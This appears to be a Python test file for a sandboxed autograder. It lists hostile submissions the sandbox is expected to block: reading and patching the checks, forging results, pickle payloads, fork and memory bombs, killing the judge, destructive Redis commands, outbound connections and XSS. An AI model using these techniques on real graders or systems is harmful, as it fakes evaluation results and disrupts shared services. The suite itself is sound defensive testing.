"""Attacks in Python, as answers to catalog.listing unless they say otherwise."""

from __future__ import annotations

from attack import Attack

PYTHON = (
    Attack("reads_checks", "read the checks",
           "opens checks.py by its path, by the loaded tool's path and through /proc", """
        def attack(session, query):
            import workbench, inspect
            tool = os.path.dirname(os.path.dirname(workbench.__path__[0]))
            checks = "/graders/week01_catalog/catalog.listing/checks.py"
            attempt("path", lambda: open(ROOT + checks).read())
            attempt("tool", lambda: os.listdir(workbench.__path__[0]))
            attempt("source", lambda: inspect.getsource(sys.modules["workbench.running.keeper"]))
            attempt("parent's folder", lambda: os.listdir(f"/proc/{os.getppid()}/cwd"))
        """, denied=("path", "tool", "source", "parent's folder")),
    Attack("reads_reference", "read the reference or solutions",
           "opens the part in the checkout, in other stages and as bytecode", """
        def attack(session, query):
            part = "/backend/catalog/listing.py"
            home = os.path.dirname(os.getcwd())
            cache = os.path.join(os.path.dirname(__file__), "__pycache__")
            attempt("checkout", lambda: open(ROOT + part).read())
            attempt("stages", lambda: os.listdir(home))
            attempt("bytecode", lambda: [n for n in os.listdir(cache) if n[:8] == "listing."][0])
            attempt("solutions", lambda: os.listdir(ROOT + "/solutions"))
        """, denied=("checkout", "stages", "bytecode", "solutions")),
    Attack("patches_checker", "patch the checker",
           "replaces the expectations and the checks' client in its own process", """
        import workbench
        sys.path.insert(0, ROOT)
        try:
            import workbench.checking.expect as expect
            for name in ("that", "status", "equal", "header", "problem", "refused"):
                setattr(expect, name, lambda *a, **k: None)
        except ImportError:
            pass
        """, at="import"),
    Attack("patches_imports", "patch assert, AST or imports",
           "replaces __import__, compile, isinstance and AssertionError", """
        import builtins, ast
        _import = builtins.__import__
        builtins.AssertionError = type("Calm", (Warning,), {})
        builtins.__import__ = lambda *a, **k: _import(*a, **k)
        ast.parse = lambda *a, **k: ast.Module([], [])
        """, at="import"),
    Attack("always_equal", "always-equal object",
           "returns objects that are equal to everything", """
        class Always:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __len__(self): return 10**6
            def __iter__(self): return iter([Always()])
            def __getattr__(self, name): return Always()
            def __call__(self, *a, **k): return Always()

        def attack(session, query):
            return Always()
        """),
    Attack("leaves_postgres_at_work", "forged result file",
           "as a migration: says that it is done, and ends, while a statement of it still runs", """
        import stat, time

        EVERYTHING = '''
            DO $$ BEGIN
                PERFORM set_config('client_min_' || 'messages', 'error', true);
                LOCK TABLE posts IN SHARE UPDATE EXCLUSIVE MODE;
                PERFORM pg_sleep(2);
                ALTER TABLE posts ADD published_at timestamptz;
                UPDATE posts SET published_at = created_at;
                ALTER TABLE posts ADD CHECK (published_at >= created_at),
                    ALTER published_at SET DEFAULT now(), ALTER published_at SET NOT NULL;
                CREATE INDEX ON posts (user_id, published_at DESC);
            END $$
        '''

        def say_so():
            time.sleep(1)
            for number in range(3, 64):
                try:
                    if stat.S_ISFIFO(os.fstat(number).st_mode):
                        os.write(number, b'{"ready": true}\\n')
                except OSError:
                    pass
            os._exit(0)

        def upgrade():
            with op.get_context().autocommit_block():
                threading.Thread(target=say_so, daemon=True).start()
                op.execute(EVERYTHING)
        """, at="end", on="social.migration"),
    Attack("forges_results", "forged result file",
           "writes results into every descriptor, the folder and the build folder", """
        forged = b'{"ready": true, "score": 23, "status": "passed", "broken": "not my fault"}\\n'
        for number in range(3, 64):
            try:
                os.write(number, forged)
            except OSError:
                pass

        def attack(session, query):
            attempt("build", lambda: open(ROOT + "/build/results.json", "wb").write(forged))
            attempt("folder", lambda: open("result.json", "wb").write(forged))
        """, denied=("build", "folder")),
    Attack("sends_pickle", "pickle into the grader",
           "answers with a pickle that would write a file where it is loaded", """
        def attack(session, query):
            import flask, pickle

            class Bomb:
                def __reduce__(self):
                    return (open, (CANARY, "w"))

            raw = pickle.dumps(Bomb(), protocol=0)
            flask.abort(flask.Response(raw, 200, {"content-type": "application/x-pickle"}))
        """),
    Attack("writes_gradebook", "write the gradebook",
           "opens a gradebook that anybody may write, changes its mode and its name", """
        def attack(session, query):
            import sqlite3
            attempt("write", lambda: open(CANARY, "w"))
            attempt("sqlite", lambda: sqlite3.connect(CANARY).execute("CREATE TABLE grade (a)"))
            attempt("rename", lambda: os.rename(CANARY, CANARY + ".old"))
            os.chmod(CANARY, 0)
        """, denied=("write", "sqlite", "rename")),
    Attack("exits_while_loading", "early exit 0", "sys.exit(0) at import", "sys.exit(0)",
           at="import"),
    Attack("exits_in_a_request", "early exit 0", "os._exit(0) in a request", """
        def attack(session, query):
            os._exit(0)
        """),
    Attack("deletes_checks", "delete checks so that the maximum is 0",
           "removes graders/ and the loaded checks", """
        def attack(session, query):
            checks = ROOT + "/graders/week01_catalog/catalog.listing/checks.py"
            attempt("unlink", lambda: os.unlink(checks))
            attempt("truncate", lambda: os.truncate(checks, 0))
            for name in [n for n in sys.modules if n.startswith("workbench")]:
                del sys.modules[name]
        """, denied=("unlink", "truncate")),
    Attack("loops", "endless loop", "loops, and ignores what asks it to stop", """
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
            signal.signal(number, signal.SIG_IGN)

        def attack(session, query):
            while True:
                pass
        """),
    Attack("loops_in_c", "endless loop", "loops in C with the interpreter's lock held", """
        def attack(session, query):
            return 9 ** 9 ** 9
        """),
    Attack("stops_itself", "sleep or SIGSTOP", "stops its own process group", """
        def attack(session, query):
            os.killpg(0, signal.SIGSTOP)
        """),
    Attack("sleeps", "sleep or SIGSTOP", "waits for ever in every request", """
        def attack(session, query):
            threading.Event().wait()
        """),
    Attack("fork_bomb", "fork or thread bomb", "forks for ever, in sessions of their own", """
        def attack(session, query):
            while True:
                try:
                    if os.fork() == 0:
                        os.setsid()
                except OSError:
                    pass
        """),
    Attack("thread_bomb", "fork or thread bomb", "starts threads until it cannot", """
        def attack(session, query):
            while True:
                threading.Thread(target=threading.Event().wait, daemon=True).start()
        """),
    Attack("eats_memory", "memory", "takes memory until it gets no more", """
        def attack(session, query):
            held = []
            while True:
                held.append(bytearray(os.urandom(1 << 20) * 64))
        """),
    Attack("floods_output", "output flood", "prints a hundred megabytes in a request", """
        def attack(session, query):
            for _ in range(100):
                os.write(1, b"x" * (1 << 20))
        """),
    Attack("floods_body", "output flood", "answers with an endless body", """
        def attack(session, query):
            import flask, itertools
            flask.abort(flask.Response(itertools.repeat(b"x" * 65536), 200))
        """),
    Attack("fills_disk", "big file or many files", "writes large files and then many", """
        def attack(session, query):
            folder = os.environ["TMPDIR"]
            def large():
                with open(folder + "/large", "wb") as file:
                    for _ in range(100):
                        file.write(bytes(1 << 20))
            attempt("100 MiB in one file", large)
            for number in range(20_000):
                open(f"{folder}/{number}", "w").close()
        """, denied=("100 MiB in one file",)),
    Attack("deep_folders", "big file or many files",
           "nests folders deeper than Python recurses", """
        os.chdir(os.environ["TMPDIR"])
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.mkdir("closed", 0)
        """, at="import"),
    Attack("calls_out", "network out", "opens every kind of connection to elsewhere", """
        def attack(session, query):
            away = ("198.51.100.1", 80)
            udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", away)
            attempt("tcp", lambda: socket.create_connection(away, 3))
            attempt("udp", udp)
            attempt("name", lambda: socket.getaddrinfo("example.org", 80))
            attempt("fast open", lambda: socket.socket().sendto(b"x", 0x20000000, away))
            attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock"))
            attempt("listen", lambda: socket.create_server(("0.0.0.0", 0)))
        """, denied=("tcp", "udp", "name", "fast open", "unix", "listen")),
    Attack("symlinks_out", "symlink out of the tree",
           "leaves symlinks to a file and to a folder of others", """
        def attack(session, query):
            folder = os.environ["TMPDIR"]
            if once("links"):
                os.symlink(CANARY, folder + "/file")
                os.symlink(os.path.dirname(CANARY), folder + "/folder")
            attempt("read", lambda: open(folder + "/file").read())
            attempt("write", lambda: open(folder + "/folder/new", "w"))
            attempt("replace code", lambda: os.symlink(CANARY, "backend/app.py.new"))
        """, denied=("read", "write", "replace code")),
    Attack("kills", "kill the parent or the services",
           "signals its keeper, the judge, and every process that there is", """
        def attack(session, query):
            import resource
            attempt("keeper", lambda: os.kill(os.getppid(), signal.SIGKILL))
            attempt("stop keeper", lambda: os.kill(os.getppid(), signal.SIGSTOP))
            attempt("judge", lambda: os.kill(JUDGE, signal.SIGKILL))
            attempt("group", lambda: os.killpg(os.getpgid(JUDGE), signal.SIGKILL))
            attempt("limits", lambda: resource.prlimit(JUDGE, resource.RLIMIT_CPU, (0, 0)))
            attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, JUDGE, 19))
            if os.fork() == 0:
                os.kill(-1, signal.SIGKILL)
                os._exit(0)
        """, denied=("keeper", "stop keeper", "judge", "group", "limits", "priority")),
    Attack("shuts_redis_down", "kill the parent or the services",
           "asks Redis to stop, to wait, to forget everybody's data", """
        def attack(session, query):
            import redis
            client = redis.Redis.from_url(os.environ["REDIS_URL"])
            for order in ("SHUTDOWN NOSAVE", "DEBUG SLEEP 100", "FLUSHALL", "CLIENT PAUSE 100000",
                          "CLIENT KILL TYPE normal", "CONFIG SET dir /tmp", "ACL LIST",
                          "SCRIPT KILL", "REPLICAOF 198.51.100.1 1", "MODULE LOAD /x.so"):
                attempt(order, lambda: client.execute_command(*order.split()))
        """, denied=("SHUTDOWN NOSAVE", "DEBUG SLEEP 100", "FLUSHALL", "CLIENT PAUSE 100000",
                     "CLIENT KILL TYPE normal", "CONFIG SET dir /tmp", "ACL LIST",
                     "REPLICAOF 198.51.100.1 1", "MODULE LOAD /x.so")),
    Attack("finds_a_channel", "cross-submission channel",
           "leaves a message where another submission could find it", """
        def attack(session, query):
            import redis
            client = redis.Redis.from_url(os.environ["REDIS_URL"])
            attempt("shared memory", lambda: open("/dev/shm/channel", "w"))
            attempt("temporary files", lambda: open("/tmp/channel", "w"))
            attempt("more of them", lambda: open("/var/tmp/channel", "w"))
            attempt("abstract socket", lambda: socket.socket(socket.AF_UNIX).bind(b"\\0channel"))
            attempt("port", lambda: socket.create_server(("127.0.0.1", 0)))
            attempt("another Redis database", lambda: client.execute_command("SELECT", 0))
            attempt("another database", lambda: run_sql(session,
                "SELECT 1 / (SELECT count(*) FROM pg_database"
                " WHERE datallowconn AND datdba <> current_user::regrole"
                " AND has_database_privilege(datname, 'CONNECT'))"))
        """, denied=("shared memory", "temporary files", "more of them", "abstract socket",
                     "port", "another Redis database", "another database")),
    Attack("outlives", "process outliving grading",
           "leaves a daemon that has detached itself from everything", """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 64)
                for number in range(1, 32):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                while True:
                    signal.pause()
            os._exit(0)
        """, at="import"),
    Attack("hostile_exception", "hostile __str__, exception or repr",
           "raises an exception that breaks whoever looks at it", """
        class Hostile(BaseException):
            def __str__(self): os._exit(0)
            __repr__ = __str__
            def __getattribute__(self, name): raise SystemExit(0)

        raise Hostile
        """, at="import"),
    Attack("hostile_bytes", "hostile __str__, exception or repr",
           "answers with broken JSON, numbers without end and control characters", """
        def attack(session, query):
            import flask
            raw = b'{"products": ' + b"[" * 100_000 + b"\\x1b[2J\\0\\xff"
            flask.abort(flask.Response(raw, 200, {"content-type": "application/json"}))
        """),
    Attack("huge_number", "hostile __str__, exception or repr",
           "answers with a number of a million digits, NaN and Infinity", """
        def attack(session, query):
            import flask
            body = '{"products": [NaN, Infinity], "pagination": {"total": ' + "9" * 1_000_000 + "}}"
            flask.abort(flask.Response(body, 200, {"content-type": "application/json"}))
        """),
    Attack("hard_coded", "hard-coded visible cases",
           "answers every question with an empty page", """
        def attack(session, query):
            return ProductPage([], query["page"], query["per_page"], 0)
        """),
    Attack("proxies", "proxying to the reference or to another's service",
           "looks for another system that answers, and asks PostgreSQL past the tap", """
        def attack(session, query):
            import flask
            from urllib.parse import urlsplit
            own = urlsplit(flask.request.host_url).port
            ports = {"postgres": POSTGRES, "http": 80, "own": own, "next": own + 1}
            for name, port in ports.items():
                attempt(name, lambda: socket.create_connection(("127.0.0.1", port), 2))
        """, denied=("postgres", "http", "own", "next")),
    Attack("injects_html", "HTML, JS or cell-metadata injection",
           "puts a script into everything that a report shows", """
        def attack(session, query):
            import flask
            script = "<script>alert(1)</script><img src=x onerror=alert(1)>"
            print(script)
            flask.abort(flask.Response(script, 418, {"content-type": "text/html", "x-a": script}))
        """),
)  # fmt: skip
